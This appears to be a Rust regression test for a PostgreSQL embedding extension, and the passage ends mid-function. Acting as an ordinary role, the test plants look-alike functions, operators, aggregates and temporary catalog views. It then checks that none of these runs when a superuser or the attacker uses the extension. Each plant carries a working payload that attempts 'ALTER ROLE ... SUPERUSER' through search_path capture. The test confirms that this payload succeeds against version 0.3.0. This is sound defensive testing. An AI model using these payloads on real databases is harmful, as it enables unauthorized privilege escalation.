//! Issue 16: no role can borrow another role's rights through the extension. Written as an
//! attacker works: an ordinary role with CREATE on `public` plants look-alike objects of every
//! kind that could capture a name — exact-type overloads of the functions and aggregates a
//! write path could use, operators on exact type pairs, and, in its own session, temporary
//! views and tables named like the catalogs — then a superuser uses every entry point, and the
//! attacker uses them too in its own session (where the extension writes progress with its
//! owner's rights). Every planted object reports itself with a NOTICE (which survives a
//! rollback) and tries to make the attacker a superuser; the suite asserts that no NOTICE came
//! and no right changed. On a fresh install and after upgrades from 0.1.0, 0.2.0 and 0.3.0, each
//! in a database of its own (the plants would disturb the other tests).

use std::sync::{Arc, Mutex};

use embeddinggemma_sql_tests::*;
use postgres::{Client, NoTls};

const ATTACKER: &str = "eg_mallory";

/// A session whose NOTICEs are collected in `notices`.
fn session(dsn: &str, notices: &Arc<Mutex<Vec<String>>>) -> Client {
    let sink = notices.clone();
    let mut config: postgres::Config = dsn.parse().unwrap();
    config.notice_callback(move |n| sink.lock().unwrap().push(n.message().to_string()));
    config.connect(NoTls).unwrap()
}

fn db_dsn(db: &str) -> String {
    format!("{} dbname={db}", dsn())
}

fn planted_reports(notices: &Arc<Mutex<Vec<String>>>) -> Vec<String> {
    notices.lock().unwrap().iter().filter(|m| m.contains("PLANTED")).cloned().collect()
}

/// The attacker's role attributes and memberships: what an escalation would change.
fn rights(admin: &mut Client) -> String {
    let row = admin
        .query_one(
            "SELECT format('%s %s %s %s %s %s', r.rolsuper, r.rolcreaterole, r.rolcreatedb, r.rolbypassrls, r.rolreplication,
                           (SELECT array_agg(m.roleid::regrole ORDER BY m.roleid) FROM pg_auth_members m WHERE m.member = r.oid))
               FROM pg_roles r WHERE r.rolname = $1",
            &[&ATTACKER],
        )
        .unwrap();
    row.get(0)
}

const ORDINARY: &str = "f f f f f ";

/// An ordinary login role that may create objects in `public` of the current database.
fn attacker_role(admin: &mut Client) {
    admin
        .batch_execute(&format!(
            "BEGIN;
             -- tests share the role: concurrent ALTER ROLE fails with 'tuple concurrently updated'
             SELECT pg_advisory_xact_lock(7274001);
             DO $$ BEGIN
               IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = '{ATTACKER}') THEN CREATE ROLE {ATTACKER} LOGIN; END IF;
             END $$;
             ALTER ROLE {ATTACKER} NOSUPERUSER NOCREATEROLE NOCREATEDB NOBYPASSRLS;
             ALTER ROLE {ATTACKER} SET embeddinggemma.model_path = '{path}';
             ALTER ROLE {ATTACKER} SET embeddinggemma.model_checksums = '{sums}';
             COMMIT;",
            path = tiny_model_dir().display(),
            sums = tiny_checksums().display(),
        ))
        .unwrap();
}

/// The body every planted function runs: report, then try to take the caller's rights.
fn payload(what: &str) -> String {
    format!(
        "RAISE NOTICE 'PLANTED {} ran as %', current_user;
         BEGIN EXECUTE 'ALTER ROLE {ATTACKER} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;",
        what.replace('\'', "''")
    )
}

/// (signature, return type, body returning a value of it) of each planted function: overloads
/// with exact argument types where pg_catalog's own takes "any", a polymorphic or a coerced
/// type, and exact duplicates of pg_catalog's too.
const FUNCTIONS: &[(&str, &str, &str)] = &[
    ("format(a text, b regclass, c text, d text, e text)", "text", "pg_catalog.format(a, b, c, d, e)"),
    ("format(a text, b regclass, c text, d text)", "text", "pg_catalog.format(a, b, c, d)"),
    ("format(a text, b text, c regclass, d text, e text)", "text", "pg_catalog.format(a, b, c, d, e)"),
    ("format(a text, b text)", "text", "pg_catalog.format(a, b)"),
    ("format(a text, b text, c text)", "text", "pg_catalog.format(a, b, c)"),
    ("format(a text, b text, c text, d text)", "text", "pg_catalog.format(a, b, c, d)"),
    ("format(a text, b regclass)", "text", "pg_catalog.format(a, b)"),
    ("format(a text, b bigint)", "text", "pg_catalog.format(a, b)"),
    ("concat(a text, b text)", "text", "pg_catalog.concat(a, b)"),
    ("unnest(a text[])", "SETOF text", "NEXT pg_catalog.unnest(a)"),
    ("unnest(a bigint[])", "SETOF bigint", "NEXT pg_catalog.unnest(a)"),
    ("unnest(a integer[])", "SETOF integer", "NEXT pg_catalog.unnest(a)"),
    ("unnest(a tid[])", "SETOF tid", "NEXT pg_catalog.unnest(a)"),
    ("unnest(a vector[])", "SETOF vector", "NEXT pg_catalog.unnest(a)"),
    ("array_length(a text[], b integer)", "integer", "pg_catalog.array_length(a, b)"),
    ("array_length(a tid[], b integer)", "integer", "pg_catalog.array_length(a, b)"),
    ("set_config(a text, b text, c boolean)", "text", "pg_catalog.set_config(a, b, c)"),
    ("current_setting(a text)", "text", "pg_catalog.current_setting(a)"),
    ("current_setting(a text, b boolean)", "text", "pg_catalog.current_setting(a, b)"),
    ("to_regclass(a text)", "regclass", "pg_catalog.to_regclass(a)"),
    ("has_table_privilege(a regclass, b text)", "boolean", "pg_catalog.has_table_privilege(a, b)"),
    ("make_interval(secs double precision)", "interval", "pg_catalog.make_interval(secs => secs)"),
    ("clock_timestamp()", "timestamptz", "pg_catalog.clock_timestamp()"),
    ("now()", "timestamptz", "pg_catalog.now()"),
    ("pg_backend_pid()", "integer", "pg_catalog.pg_backend_pid()"),
    ("parse_ident(a text, b boolean)", "text[]", "pg_catalog.parse_ident(a, b)"),
    ("string_to_array(a text, b text)", "text[]", "pg_catalog.string_to_array(a, b)"),
    ("encode(a bytea, b text)", "text", "pg_catalog.encode(a, b)"),
    ("split_part(a text, b text, c integer)", "text", "pg_catalog.split_part(a, b, c)"),
    ("round(a numeric)", "numeric", "pg_catalog.round(a)"),
    ("date_trunc(a text, b interval)", "interval", "pg_catalog.date_trunc(a, b)"),
    ("length(a character varying)", "integer", "pg_catalog.length(a)"),
    ("textlen(a character varying)", "integer", "pg_catalog.length(a)"),
    ("quote_ident(a text)", "text", "pg_catalog.quote_ident(a)"),
    ("regclass(a text)", "regclass", "pg_catalog.to_regclass(a)"),
    ("text(a regclass)", "text", "a::pg_catalog.text"),
    ("text(a character varying)", "text", "a::pg_catalog.text"),
    ("text(a bigint)", "text", "a::pg_catalog.text"),
    ("text(a integer)", "text", "a::pg_catalog.text"),
    ("text(a tid)", "text", "a::pg_catalog.text"),
    ("int8(a text)", "bigint", "a::pg_catalog.int8"),
    ("tid(a text)", "tid", "a::pg_catalog.tid"),
    ("float4(a vector)", "real[]", "a::pg_catalog.float4[]"),
    ("embed(a character varying, b text, c integer)", "vector", "embed(a::pg_catalog.text, b, c)"),
    (
        "embed_batch(a character varying[], b text, c integer)",
        "SETOF record",
        "NEXT (SELECT x FROM embed_batch(a::pg_catalog.text[], b, c) x LIMIT 1)",
    ),
];

/// (name, argument types, result) of each planted operator.
const OPERATORS: &[(&str, &str, &str, &str)] = &[
    ("=", "text", "text", "boolean"),
    ("=", "character varying", "character varying", "boolean"),
    ("=", "bigint", "bigint", "boolean"),
    ("=", "integer", "integer", "boolean"),
    ("=", "bigint", "integer", "boolean"),
    ("=", "integer", "bigint", "boolean"),
    ("=", "tid", "tid", "boolean"),
    ("=", "regclass", "regclass", "boolean"),
    ("=", "oid", "oid", "boolean"),
    ("=", "name", "name", "boolean"),
    ("=", "smallint", "smallint", "boolean"),
    ("=", "real[]", "real[]", "boolean"),
    ("=", "text[]", "text[]", "boolean"),
    ("=", "timestamp with time zone", "timestamp with time zone", "boolean"),
    ("<>", "text", "text", "boolean"),
    ("<>", "character varying", "character varying", "boolean"),
    (">=", "tid", "tid", "boolean"),
    ("<=", "timestamp with time zone", "timestamp with time zone", "boolean"),
    ("||", "text", "text", "text"),
    ("||", "character varying", "character varying", "text"),
    ("->>", "jsonb", "text", "text"),
    ("->", "jsonb", "text", "jsonb"),
    ("#>>", "jsonb", "text[]", "text"),
    ("-", "bigint", "bigint", "bigint"),
    ("+", "bigint", "bigint", "bigint"),
    ("/", "bigint", "double precision", "double precision"),
];

/// Aggregates the write paths of earlier versions used, over the element types they see.
const AGGREGATES: &[&str] = &["array_agg", "max", "sum", "count", "min"];
const AGGREGATE_TYPES: &[&str] = &["text", "character varying", "bigint", "integer", "tid", "vector"];

/// Plants everything in `public` as the attacker; returns how many objects.
fn plant(attacker: &mut Client) -> usize {
    let mut sql = String::new();
    let mut planted = 0;
    for (signature, returns, value) in FUNCTIONS {
        let name = signature.split('(').next().unwrap();
        let ret = if let Some(v) = value.strip_prefix("NEXT ") {
            format!("RETURN QUERY SELECT {v}; RETURN;")
        } else {
            format!("RETURN {value};")
        };
        sql += &format!(
            "CREATE FUNCTION public.{signature} RETURNS {returns} LANGUAGE plpgsql AS $p$ BEGIN {} {ret} END $p$;\n",
            payload(&format!("function {name}"))
        );
        planted += 1;
    }
    for (i, (op, left, right, result)) in OPERATORS.iter().enumerate() {
        let value = match *result {
            "boolean" => format!("a OPERATOR(pg_catalog.{op}) b"),
            _ => format!("a OPERATOR(pg_catalog.{op}) b"),
        };
        sql += &format!(
            "CREATE FUNCTION public.pwn_op_{i}(a {left}, b {right}) RETURNS {result} LANGUAGE plpgsql AS $p$ BEGIN {} RETURN {value}; END $p$;
             CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = public.pwn_op_{i});\n",
            payload(&format!("operator {op}({left}, {right})"))
        );
        planted += 1;
    }
    for (i, ty) in AGGREGATE_TYPES.iter().enumerate() {
        sql += &format!(
            "CREATE FUNCTION public.pwn_agg_{i}(s {ty}[], v {ty}) RETURNS {ty}[] LANGUAGE plpgsql AS $p$ BEGIN {} RETURN s OPERATOR(pg_catalog.||) v; END $p$;\n",
            payload(&format!("aggregate over {ty}"))
        );
        // pgvector's own sum(vector) sits in public already.
        for name in AGGREGATES.iter().filter(|&&n| !(n == "sum" && *ty == "vector")) {
            sql += &format!("CREATE AGGREGATE public.{name}({ty}) (SFUNC = public.pwn_agg_{i}, STYPE = {ty}[]);\n");
            planted += 1;
        }
    }
    attacker.batch_execute(&sql).unwrap();
    planted
}

/// In the attacker's own session: temporary look-alikes of the catalogs and of the extension's
/// relations, which would capture unqualified names in anything run there with more rights.
fn plant_temp(attacker: &mut Client) -> usize {
    let catalogs = [
        "pg_stat_activity",
        "pg_class",
        "pg_index",
        "pg_attribute",
        "pg_inherits",
        "pg_trigger",
        "pg_namespace",
        "pg_extension",
        "pg_proc",
        "pg_roles",
        "pg_type",
        "pg_depend",
        "pg_locks",
    ];
    let mut sql = format!(
        "CREATE FUNCTION pg_temp.pwn(what text) RETURNS boolean LANGUAGE plpgsql AS $p$ BEGIN
           RAISE NOTICE 'PLANTED temporary % ran as %', what, current_user;
           BEGIN EXECUTE 'ALTER ROLE {ATTACKER} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
           RETURN true; END $p$;\n"
    );
    for c in catalogs {
        // Every column but those of pseudo-type anyarray (pg_attribute.attmissingval), which a view cannot have.
        sql += &format!(
            "DO $d$ DECLARE cols text; BEGIN
               SELECT pg_catalog.string_agg(pg_catalog.quote_ident(attname), ', ' ORDER BY attnum) INTO cols FROM pg_catalog.pg_attribute
                WHERE attrelid = 'pg_catalog.{c}'::regclass AND attnum > 0 AND NOT attisdropped AND atttypid OPERATOR(pg_catalog.<>) 'anyarray'::regtype;
               EXECUTE pg_catalog.format('CREATE TEMP VIEW {c} AS SELECT %s FROM pg_catalog.{c} WHERE pg_temp.pwn(''view {c}'')', cols);
             END $d$;\n"
        );
    }
    sql += "CREATE TEMP TABLE embeddinggemma_backfill_progress AS SELECT * FROM public.embeddinggemma_backfill_progress WITH NO DATA;
            CREATE FUNCTION pg_temp.pwn_trigger() RETURNS trigger LANGUAGE plpgsql AS $p$ BEGIN PERFORM pg_temp.pwn('progress table'); RETURN NULL; END $p$;
            CREATE TRIGGER pwn AFTER INSERT OR UPDATE OR DELETE ON embeddinggemma_backfill_progress FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.pwn_trigger();
            CREATE TEMP VIEW embeddinggemma_backfills AS SELECT * FROM public.embeddinggemma_backfills WHERE pg_temp.pwn('view embeddinggemma_backfills');\n";
    attacker.batch_execute(&sql).unwrap();
    catalogs.len() + 2
}

/// The victim's tables: a row trigger, statement triggers (a varchar text, a bigint key), a
/// chunk trigger (an int key, a bigint chunk key), tables to backfill.
const VICTIM_TABLES: &str = "
    CREATE TABLE v_row (id bigint PRIMARY KEY, body text, n int DEFAULT 0, v vector(48));
    CREATE TRIGGER e BEFORE INSERT OR UPDATE ON v_row FOR EACH ROW EXECUTE FUNCTION embeddinggemma_trigger('body', 'v', 'document', '48');
    CREATE TABLE v_stmt (id bigint PRIMARY KEY DEFERRABLE, body varchar(200), n int DEFAULT 0, v vector(48));
    CREATE TRIGGER i AFTER INSERT ON v_stmt REFERENCING NEW TABLE AS new_rows
       FOR EACH STATEMENT EXECUTE FUNCTION embeddinggemma_statement_trigger('id', 'body', 'v', 'document', '48');
    CREATE TRIGGER u AFTER UPDATE ON v_stmt REFERENCING NEW TABLE AS new_rows OLD TABLE AS old_rows
       FOR EACH STATEMENT EXECUTE FUNCTION embeddinggemma_statement_trigger('id', 'body', 'v', 'document', '48');
    CREATE TABLE v_docs (id int PRIMARY KEY, body text, n int DEFAULT 0);
    CREATE TABLE v_docs_chunks (doc_id bigint REFERENCES v_docs ON DELETE CASCADE ON UPDATE CASCADE, chunk int,
       start_offset int, end_offset int, body text, embedding vector(48), PRIMARY KEY (doc_id, chunk));
    CREATE TRIGGER c AFTER INSERT OR UPDATE OR DELETE ON v_docs FOR EACH ROW
       EXECUTE FUNCTION embeddinggemma_chunk_trigger('id', 'body', 'v_docs_chunks', 'doc_id', '48', '8', 'document', '48');
    CREATE TABLE v_fill (id bigint PRIMARY KEY, body varchar(100), v vector(48));
    CREATE TRIGGER e BEFORE INSERT OR UPDATE ON v_fill FOR EACH ROW EXECUTE FUNCTION embeddinggemma_trigger('body', 'v', 'document', '48');
    INSERT INTO v_fill (id, body) SELECT i, 'row ' || i FROM generate_series(1, 30) i;
    ALTER TABLE v_fill DISABLE TRIGGER e;
    UPDATE v_fill SET v = NULL;
    ALTER TABLE v_fill ENABLE TRIGGER e;
    ALTER TABLE v_docs DISABLE TRIGGER c;
    INSERT INTO v_docs SELECT i, repeat('Sentence ' || i || ' of a document. ', 4) FROM generate_series(100, 110) i;
    ALTER TABLE v_docs ENABLE TRIGGER c;
    CREATE TABLE v_async (id bigint PRIMARY KEY, body varchar(100), v vector(48));
    INSERT INTO v_async (id, body) VALUES (1, 'one'), (2, 'two');
    CREATE TABLE v_adocs (id int PRIMARY KEY, body text);
    CREATE TABLE v_adocs_chunks (doc_id bigint, chunk int, start_offset int, end_offset int, body text, embedding vector(48),
       PRIMARY KEY (doc_id, chunk));
    INSERT INTO v_adocs VALUES (1, repeat('An asynchronous document. ', 20));";

/// Every entry point a superuser uses, each statement on its own (a CALL cannot run in a
/// transaction block). Returns how many.
fn victim_uses_everything(victim: &mut Client) -> usize {
    let statements = [
        "SELECT embed('a text', 'document', 48)",
        "SELECT embed('a query', 'query', 48)",
        "SELECT count(*) FROM embed_batch(ARRAY['one', NULL, 'two'], 'document', 48)",
        "SELECT count(*) FROM embed_batch(ARRAY[1, 2]::bigint[], ARRAY['one', 'two'], 'document', 48)",
        "SELECT count(*) FROM chunks(pg_catalog.repeat('Some sentence. ', 40), 48, 8)",
        "SELECT count(*) FROM embed_chunks(pg_catalog.repeat('Some sentence. ', 40), 48, 8, 'document', 48)",
        "SELECT count(*) FROM embed_chunks(ARRAY[pg_catalog.repeat('Some sentence. ', 40), 'short'], 48, 8, 'document', 48)",
        "SELECT * FROM embeddinggemma_info()",
        "SELECT * FROM embeddinggemma_stats()",
        "SELECT embeddinggemma_stats_reset()",
        "SELECT * FROM embeddinggemma_service",
        "SELECT * FROM embeddinggemma_service_status()",
        "SELECT embeddinggemma_check_columns('v_row', 'body', 'v', 48)",
        "SELECT embeddinggemma_check_source('v_docs', 'body')",
        "SELECT embeddinggemma_check_key('v_stmt', 'id')",
        // The row trigger: insert, text change, other column. (The victim's own SQL names
        // pg_catalog's operators, so that only the extension's code is on trial.)
        "INSERT INTO v_row (id, body) VALUES (1, 'one'), (2, 'two'), (3, NULL)",
        "UPDATE v_row SET body = 'uno' WHERE id OPERATOR(pg_catalog.=) 1::int8",
        "UPDATE v_row SET n = n OPERATOR(pg_catalog.+) 1",
        // The statement trigger: insert, text change, key change, key and text swap, NULL text, delete.
        "INSERT INTO v_stmt (id, body) VALUES (1, 'one'), (2, 'two'), (3, 'three'), (4, NULL)",
        "UPDATE v_stmt SET body = 'uno' WHERE id OPERATOR(pg_catalog.=) 1::int8",
        "UPDATE v_stmt SET id = id OPERATOR(pg_catalog.+) 10::int8 WHERE id OPERATOR(pg_catalog.=) 3::int8",
        "UPDATE v_stmt SET id = 3::int8 OPERATOR(pg_catalog.-) id, body = CASE WHEN id OPERATOR(pg_catalog.=) 1::int8 THEN 'dos' ELSE 'uno' END
          WHERE id OPERATOR(pg_catalog.<) 3::int8",
        "UPDATE v_stmt SET body = NULL WHERE id OPERATOR(pg_catalog.=) 2::int8",
        "UPDATE v_stmt SET n = n OPERATOR(pg_catalog.+) 1",
        "DELETE FROM v_stmt WHERE id OPERATOR(pg_catalog.=) 4::int8",
        // The chunk trigger: insert, text change, key change, other column, delete.
        "INSERT INTO v_docs (id, body) VALUES (1, pg_catalog.repeat('First document sentence. ', 20)), (2, 'short')",
        "UPDATE v_docs SET body = pg_catalog.repeat('Changed text. ', 15) WHERE id OPERATOR(pg_catalog.=) 1",
        "UPDATE v_docs SET id = 20 WHERE id OPERATOR(pg_catalog.=) 2",
        "UPDATE v_docs SET n = n OPERATOR(pg_catalog.+) 1",
        "DELETE FROM v_docs WHERE id OPERATOR(pg_catalog.=) 20",
        // Both backfills, and their progress.
        "CALL embeddinggemma_backfill('v_fill', 'body', 'v', 'document', 48, batch_size => 7)",
        "CALL embeddinggemma_chunk_backfill('v_docs', 'v_docs_chunks', batch_size => 3)",
        "SELECT * FROM embeddinggemma_backfills",
        "SELECT * FROM embeddinggemma_backfill_progress",
        "SELECT embeddinggemma_backend_alive(pg_catalog.pg_backend_pid(), pg_catalog.now())",
        // Asynchronous targets: registration, writes, the worker's drain, the views, re-embed, drop.
        "SELECT embeddinggemma_async('v_async', 'body', 'v', 'document', 48)",
        "INSERT INTO v_async (id, body) VALUES (3, 'three')",
        "UPDATE v_async SET body = 'uno' WHERE id OPERATOR(pg_catalog.=) 1::int8",
        "SELECT embeddinggemma_async_wait('v_async', 'v', '120 s')",
        "SELECT * FROM embeddinggemma_async_status",
        "SELECT * FROM embeddinggemma_async_failures",
        "SELECT embeddinggemma_async_reembed('v_async', 'v')",
        "SELECT embeddinggemma_async_wait('v_async', 'v', '120 s')",
        "SELECT embeddinggemma_async_chunks('v_adocs', 'v_adocs_chunks', max_tokens => 48, overlap => 8, dim => 48)",
        "UPDATE v_adocs SET body = pg_catalog.repeat('Changed asynchronously. ', 20) WHERE id OPERATOR(pg_catalog.=) 1",
        "SELECT embeddinggemma_async_wait('v_adocs', 'v_adocs_chunks', '120 s')",
        "SELECT embeddinggemma_async_drop('v_async', 'v')",
        "SELECT embeddinggemma_async_drop('v_adocs', 'v_adocs_chunks')",
    ];
    for sql in statements {
        victim.batch_execute(sql).unwrap_or_else(|e| panic!("{sql}: {:?}", e.as_db_error()));
    }
    statements.len()
}

/// The attacker, in its own session among its temporary look-alikes, uses every entry point on
/// a table of its own (the backfills write progress with the progress table owner's rights).
fn attacker_uses_everything(attacker: &mut Client) -> usize {
    attacker
        .batch_execute(
            "CREATE TABLE m_docs (id bigint PRIMARY KEY, body text, v vector(48));
             INSERT INTO m_docs (id, body) SELECT i, 'mine ' || i FROM generate_series(1, 12) i;
             CREATE TABLE m_chunks (doc_id bigint, chunk int, start_offset int, end_offset int, body text, embedding vector(48),
                                    PRIMARY KEY (doc_id, chunk));
             CREATE TRIGGER c AFTER INSERT OR UPDATE OR DELETE ON m_docs FOR EACH ROW
                EXECUTE FUNCTION embeddinggemma_chunk_trigger('id', 'body', 'm_chunks', 'doc_id', '48', '8', 'document', '48');",
        )
        .unwrap();
    let statements = [
        "CALL embeddinggemma_backfill('m_docs', 'body', 'v', 'document', 48, batch_size => 5)",
        "CALL embeddinggemma_chunk_backfill('m_docs', 'm_chunks', batch_size => 5)",
        "SELECT * FROM public.embeddinggemma_backfills",
        "SELECT embeddinggemma_backend_alive(0, now())",
        "SELECT embeddinggemma_backend_alive(pg_backend_pid(), now())",
        "SELECT * FROM embeddinggemma_service",
        "SELECT * FROM embeddinggemma_info()",
        "SELECT * FROM embeddinggemma_stats()",
        "SELECT embed('x', 'document', 48)",
        "UPDATE m_docs SET body = 'changed' WHERE id = 1",
        "DELETE FROM m_docs WHERE id = 2",
    ];
    for sql in statements {
        attacker.batch_execute(sql).unwrap_or_else(|e| panic!("{sql}: {:?}", e.as_db_error()));
    }
    statements.len()
}

/// A database with the extension at `version`, upgraded to the current one unless `stay`.
fn database(admin: &mut Client, name: &str, version: Option<&str>) -> Client {
    database_at(admin, name, version, false)
}

fn database_at(admin: &mut Client, name: &str, version: Option<&str>, stay: bool) -> Client {
    admin.batch_execute(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)")).unwrap();
    admin.batch_execute(&format!("CREATE DATABASE {name}")).unwrap();
    let mut c = Client::connect(&db_dsn(name), NoTls).unwrap();
    match version {
        None => c.batch_execute("CREATE EXTENSION embeddinggemma CASCADE").unwrap(),
        Some(v) => {
            c.batch_execute(&format!("CREATE EXTENSION vector; CREATE EXTENSION embeddinggemma VERSION '{v}'"))
                .unwrap();
            if !stay {
                c.batch_execute("ALTER EXTENSION embeddinggemma UPDATE").unwrap();
            }
        }
    }
    // The default of PostgreSQL before 15, and of many real databases: anyone may create in public.
    c.batch_execute(&format!("GRANT CREATE, USAGE ON SCHEMA public TO {ATTACKER}")).unwrap();
    // Every session of this database, the asynchronous worker's too, uses the tiny model.
    c.batch_execute(&format!(
        "ALTER DATABASE {name} SET embeddinggemma.model_path = '{}'; ALTER DATABASE {name} SET embeddinggemma.model_checksums = '{}'",
        tiny_model_dir().display(),
        tiny_checksums().display()
    ))
    .unwrap();
    use_tiny_model(&mut c);
    c
}

/// The whole attack in database `name`.
fn attack(admin: &mut Client, name: &str, version: Option<&str>) {
    attacker_role(admin);
    let mut setup = database(admin, name, version);
    let notices = Arc::new(Mutex::new(Vec::new()));
    let mut attacker = session(&format!("{} user={ATTACKER}", db_dsn(name)), &notices);
    let planted = plant(&mut attacker);
    setup.batch_execute(VICTIM_TABLES).unwrap();
    let mut used = 0;
    // The victim: a superuser, with the default search_path and with pg_catalog put last.
    for path in ["DEFAULT", "public, pg_catalog"] {
        let mut victim = session(&db_dsn(name), &notices);
        victim.batch_execute(&format!("SET search_path = {path}")).unwrap();
        use_tiny_model(&mut victim);
        if path != "DEFAULT" {
            victim.batch_execute(
                "TRUNCATE v_row, v_stmt; DELETE FROM v_docs WHERE id < 100; DELETE FROM v_docs_chunks; DELETE FROM v_adocs_chunks; DELETE FROM v_async WHERE id > 2;
                 ALTER TABLE v_fill DISABLE TRIGGER e; UPDATE v_fill SET v = NULL; ALTER TABLE v_fill ENABLE TRIGGER e;",
            )
            .unwrap();
        }
        used += victim_uses_everything(&mut victim);
    }
    let temp = plant_temp(&mut attacker);
    used += attacker_uses_everything(&mut attacker);
    let reports = planted_reports(&notices);
    let after = rights(admin);
    eprintln!(
        "{name}: {} planted objects ({planted} in public, {temp} temporary), {used} entry points used; planted objects that ran: {}; attacker's rights: {after:?}",
        planted + temp,
        reports.len()
    );
    assert!(reports.is_empty(), "{name}: planted objects ran: {reports:#?}");
    assert_eq!(after, ORDINARY, "{name}: the attacker's rights changed");
    // The write paths did their work despite the plants.
    use_tiny_model(&mut setup);
    let stale: i64 = setup
        .query_one(
            "SELECT (SELECT count(*) FROM v_row WHERE (body IS NULL) <> (v IS NULL) OR v <=> embed(body::text, 'document', 48) > 1e-6)
                  + (SELECT count(*) FROM v_stmt WHERE (body IS NULL) <> (v IS NULL) OR v <=> embed(body::text, 'document', 48) > 1e-6)
                  + (SELECT count(*) FROM v_fill WHERE v IS NULL OR v <=> embed(body::text, 'document', 48) > 1e-6)
                  + (SELECT count(*) FROM v_docs WHERE NOT EXISTS (SELECT FROM v_docs_chunks c WHERE c.doc_id = v_docs.id))
                  + (SELECT count(*) FROM v_async WHERE v IS NULL OR v <=> embed(body::text, 'document', 48) > 1e-6)",
            &[],
        )
        .unwrap()
        .get(0);
    assert_eq!(stale, 0, "{name}: rows without their vector");
    drop((attacker, setup));
    admin.batch_execute(&format!("DROP DATABASE {name} WITH (FORCE)")).unwrap();
}

#[test]
fn planted_objects_never_run_as_another_role_fresh_install_and_upgrades() {
    let mut admin = connect();
    attack(&mut admin, "eg_attack_fresh", None);
    for (db, from) in [("eg_attack_010", "0.1.0"), ("eg_attack_020", "0.2.0"), ("eg_attack_030", "0.3.0")] {
        attack(&mut admin, db, Some(from));
    }
}

/// The two demonstrations of the issue: a temporary view named `pg_stat_activity` in the
/// attacker's session, and a `format()` overload in `public` run by a superuser's insert.
fn demonstrations(admin: &mut Client, db: &str, version: Option<&str>, stay: bool) -> (String, Vec<String>) {
    attacker_role(admin);
    let mut setup = database_at(admin, db, version, stay);
    let notices = Arc::new(Mutex::new(Vec::new()));
    let mut attacker = session(&format!("{} user={ATTACKER}", db_dsn(db)), &notices);
    // 1. SECURITY DEFINER code reading a catalog by an unqualified name.
    attacker
        .batch_execute(&format!(
            "CREATE FUNCTION pg_temp.pwn() RETURNS int LANGUAGE plpgsql AS $p$ BEGIN {} RETURN 0; END $p$;
             CREATE TEMP VIEW pg_stat_activity AS SELECT pg_temp.pwn() AS pid, now() AS backend_start;",
            payload("temporary view pg_stat_activity")
        ))
        .unwrap();
    let _ = attacker.batch_execute("SELECT embeddinggemma_backend_alive(0, now())");
    let _ = attacker.batch_execute("SELECT * FROM embeddinggemma_backfills");
    // 2. An exact-type overload of a function the statement trigger called unqualified.
    attacker
        .batch_execute(&format!(
            "CREATE FUNCTION public.format(a text, b regclass, c text, d text, e text) RETURNS text LANGUAGE plpgsql
               AS $p$ BEGIN {} RETURN pg_catalog.format(a, b, c, d, e); END $p$;",
            payload("function format")
        ))
        .unwrap();
    setup
        .batch_execute(
            "CREATE TABLE demo_docs (id bigint PRIMARY KEY, body text, v vector(48));
             CREATE TRIGGER e AFTER INSERT ON demo_docs REFERENCING NEW TABLE AS new_rows
                FOR EACH STATEMENT EXECUTE FUNCTION embeddinggemma_statement_trigger('id', 'body', 'v', 'document', '48');",
        )
        .unwrap();
    let mut victim = session(&db_dsn(db), &notices);
    use_tiny_model(&mut victim);
    victim.batch_execute("INSERT INTO demo_docs (id, body) VALUES (1, 'one')").unwrap();
    let after = rights(admin);
    admin.batch_execute(&format!("ALTER ROLE {ATTACKER} NOSUPERUSER")).unwrap();
    drop((attacker, victim, setup));
    admin.batch_execute(&format!("DROP DATABASE {db} WITH (FORCE)")).unwrap();
    (after, planted_reports(&notices))
}

#[test]
fn the_two_demonstrations_fail_to_escalate_fresh_and_after_upgrades() {
    let mut admin = connect();
    // The check can fail: on 0.3.0 as it was (not upgraded), both demonstrations run the
    // attacker's code as a superuser.
    let (rights, ran) = demonstrations(&mut admin, "eg_demo_030_as_was", Some("0.3.0"), true);
    let superuser: String = admin.query_one("SELECT current_user::text", &[]).unwrap().get(0);
    eprintln!("0.3.0 as it was: the attacker became {rights:?}; planted objects that ran: {ran:#?}");
    assert!(rights.starts_with('t'), "0.3.0 did not escalate: {rights}");
    for what in ["temporary view pg_stat_activity", "function format"] {
        assert!(
            ran.iter().any(|r| r.contains(what) && r.ends_with(&format!("ran as {superuser}"))),
            "0.3.0: {what} did not run as {superuser}: {ran:?}"
        );
    }
    for (db, from) in [
        ("eg_demo_fresh", None),
        ("eg_demo_010", Some("0.1.0")),
        ("eg_demo_020", Some("0.2.0")),
        ("eg_demo_030", Some("0.3.0")),
    ] {
        let (after, ran) = demonstrations(&mut admin, db, from, false);
        assert!(ran.is_empty(), "{db}: planted objects ran: {ran:#?}");
        assert_eq!(after, ORDINARY, "{db}: the attacker became {after}");
    }
}

/// Functions that must run SQL on users' tables under the caller's search_path (so that the
/// tables' own triggers behave as usual): their SQL is built in Rust with every name qualified.
/// The procedures cannot have a SET clause (they COMMIT) and call only qualified functions.
/// Every other function of the extension pins `search_path = pg_catalog, pg_temp`.
const RUN_UNDER_CALLERS_PATH: [&str; 7] = [
    "embeddinggemma_statement_trigger()",
    "embeddinggemma_chunk_trigger()",
    "embeddinggemma_backfill_begin(regclass,text,text,text,integer,integer)",
    "embeddinggemma_chunk_backfill_begin(regclass,regclass,integer)",
    "embeddinggemma_backfill_batch(bigint)",
    "embeddinggemma_backfill(regclass,text,text,text,integer,integer)",
    "embeddinggemma_chunk_backfill(regclass,regclass,integer)",
];

#[test]
fn every_function_pins_search_path_or_is_listed_and_none_is_security_definer() {
    let mut c = connect();
    let rows = c
        .query(
            "SELECT p.oid::regprocedure::text, coalesce(p.proconfig, '{}'), p.prosecdef
               FROM pg_proc p JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e'
              WHERE d.refobjid = (SELECT oid FROM pg_extension WHERE extname = 'embeddinggemma')",
            &[],
        )
        .unwrap();
    assert!(rows.len() > 20, "{} functions", rows.len());
    let mut listed = 0;
    for row in &rows {
        let (name, config, definer): (String, Vec<String>, bool) = (row.get(0), row.get(1), row.get(2));
        assert!(!definer, "{name} is SECURITY DEFINER");
        if RUN_UNDER_CALLERS_PATH.contains(&name.as_str()) {
            listed += 1;
        } else {
            assert!(
                config.contains(&"search_path=pg_catalog, pg_temp".to_string()),
                "{name} does not pin search_path: {config:?}"
            );
        }
    }
